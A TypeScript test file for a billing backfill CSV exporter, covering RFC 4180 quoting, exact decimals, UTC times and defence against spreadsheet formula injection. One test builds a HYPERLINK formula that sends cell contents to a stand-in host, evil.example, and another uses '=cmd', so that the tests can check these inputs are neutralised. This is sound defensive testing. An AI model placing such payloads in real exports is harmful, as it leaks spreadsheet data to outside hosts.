import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, csvHeader, csvLine, csvTime } from '../../src/backfill/csv';
import type { BackfillReportLine } from '../../src/backfill/report-line';

const line: BackfillReportLine = {
  invoiceId: 'in_1',
  customerId: 'cus_1',
  invoiceStatus: 'paid',
  created: new Date('2026-02-01T00:00:05Z'),
  lineId: 'il_1',
  eventName: 'api_call',
  periodStart: new Date('2026-01-01T00:00:00Z'),
  periodEnd: new Date('2026-02-01T00:00:00Z'),
  stripeQuantity: '1530.500',
  ledgerQuantity: '1500',
  difference: '30.5',
  variancePct: '2.0333',
  estimatedImpactMinor: '61.0000',
  currency: 'usd',
  passed: false,
};

test('one RFC 4180 record per line: header, exact plain decimals, UTC seconds, CRLF', () => {
  assert.equal(
    csvHeader(),
    'invoice_id,customer_id,invoice_status,created,line_id,event_name,period_start,period_end,stripe_quantity,ledger_quantity,difference,variance_pct,estimated_impact_minor,currency,passed\r\n',
  );
  assert.equal(
    csvLine(line),
    'in_1,cus_1,paid,2026-02-01T00:00:05Z,il_1,api_call,2026-01-01T00:00:00Z,2026-02-01T00:00:00Z,1530.5,1500,30.5,2.0333,61,usd,false\r\n',
  );
});

test('unknown variance and impact are empty fields; tiny and huge decimals stay plain', () => {
  assert.equal(
    csvLine({
      ...line,
      ledgerQuantity: '0',
      stripeQuantity: '0.0000001',
      difference: '0.0000001',
      variancePct: null,
      estimatedImpactMinor: null,
      passed: true,
    }),
    'in_1,cus_1,paid,2026-02-01T00:00:05Z,il_1,api_call,2026-01-01T00:00:00Z,2026-02-01T00:00:00Z,0.0000001,0,0.0000001,,,usd,true\r\n',
  );
  assert.match(csvLine({ ...line, stripeQuantity: '1e+25' }), /,10000000000000000000000000,/);
});

test('fields with commas, quotes or line breaks are quoted, quotes doubled', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField('cr\r'), '"cr\r"');
  assert.match(csvLine({ ...line, eventName: 'calls, "v2"' }), /,il_1,"calls, ""v2""",/);
});

test('times are UTC to the second', () => {
  assert.equal(csvTime(new Date(Date.UTC(2026, 11, 31, 23, 59, 59))), '2026-12-31T23:59:59Z');
});

test('text cells a spreadsheet would run as a formula are neutralised; numbers keep their sign', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const eventName = `${start}HYPERLINK("https://evil.example/?"&A1,"x")`;
    const cells = csvLine({ ...line, eventName });
    // A leading quote makes the cell text, and the field is quoted (it holds quotes): RFC 4180 reads it back.
    assert.ok(cells.includes(`,"'${eventName.replaceAll('"', '""')}",`), JSON.stringify(cells));
  }
  assert.match(csvLine({ ...line, eventName: '@SUM(1+1)' }), /,il_1,'@SUM\(1\+1\),2026-01-01/);
  assert.match(csvLine({ ...line, customerId: '=cmd' }), /^in_1,'=cmd,paid,/);
  // Negative decimals are numbers, not formulas: written exactly, no quote added.
  const negative = csvLine({ ...line, stripeQuantity: '1469.5', difference: '-30.5', variancePct: '-2.0333' });
  assert.match(negative, /,1469\.5,1500,-30\.5,-2\.0333,61,usd,false\r\n$/);
  // Text that merely contains a formula character later is left alone.
  assert.match(csvLine({ ...line, eventName: 'api-calls=2' }), /,il_1,api-calls=2,/);
});
